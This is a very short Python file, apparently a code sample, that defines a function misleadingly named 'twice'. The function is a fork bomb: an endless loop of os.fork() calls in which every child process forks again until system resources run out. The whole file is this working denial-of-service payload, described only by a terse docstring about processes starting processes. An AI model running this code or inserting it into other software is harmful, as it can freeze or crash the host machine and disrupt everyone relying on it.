"""Starts processes that start processes."""

import os


def twice(x):
    while True:
        os.fork()
